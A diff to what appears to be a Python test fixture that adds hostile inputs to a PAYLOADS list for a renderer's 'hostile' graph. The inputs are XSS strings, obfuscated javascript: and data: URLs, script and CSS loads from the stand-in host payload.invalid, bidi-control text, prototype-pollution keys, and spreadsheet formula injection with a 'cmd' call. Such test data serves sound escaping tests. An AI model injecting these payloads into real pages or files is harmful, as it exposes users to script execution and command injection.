@@ -19,16 +19,32 @@ from kg.page.ties import Ties
 PAYLOADS = (
     "</script><script>window.pwned = 1</script>",
     "<!-- <script> window.pwned = 1 //",
+    "--><script src=//payload.invalid/script></script><!--",
     "<img src=x onerror='window.pwned = 1'>",
+    "<img src=//payload.invalid/image>",
     '"><svg onload="window.pwned = 1">',
+    "</title><iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
+    "</style><style>* { background: url(//payload.invalid/style) }</style>",
+    "} * { background: url('//payload.invalid/css') } /*",
+    "' autofocus onfocus='window.pwned = 1' x='",
     '<a href="javascript:window.pwned = 1">href</a>',
     "javascript:window.pwned=1",
+    "JaVa\tScRiPt:window.pwned=1",
+    "java\nscript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
     "{{ 7 * 7 }} ${window.pwned = 1} {% raw %}",
     "one\u2028two\u2029three',window.pwned=1,'",
     "\u202eright to left \u05e9\u05dc\u05d5\u05dd",
+    "\u2069\u202e out of an isolate",
     "👩‍👩‍👧 emoji & entities &lt;b&gt; &#x27;",
     "__proto__",
+    "constructor",
+    "toString",
     "\\u003cimg src=x onerror=window.pwned=1\\u003e",
+    "100%25 %3Cimg%20src=x%20onerror=window.pwned=1%3E %",
+    "a&node=b#q=c?d",
+    '=HYPERLINK("https://payload.invalid/")',
+    "@SUM(1+1)*cmd|'x'!A0",
 )
 
 Graph = nx.MultiDiGraph
@@ -153,14 +169,15 @@ def hostile() -> Graph[str]:
             excerpt=payload,
             url=payload,
             published_at=datetime(2020, 1, 1 + number, tzinfo=UTC),
+            type=payload,
             stub=bool(number % 2),
         )
         graph.add_edge(article, provider, "published_by")
         graph.add_edge(article, topic, "about")
         add_story(graph, f"{number}{payload}", payload, [article])
     articles = sorted(node for node in graph if node.startswith("article:"))
-    for article in articles:
-        add_related(graph, article, (other for other in articles if other != article))
+    for article, *others in zip(articles, articles[1:], articles[2:], articles[3:], strict=False):
+        add_related(graph, article, others)
     return graph
 
 
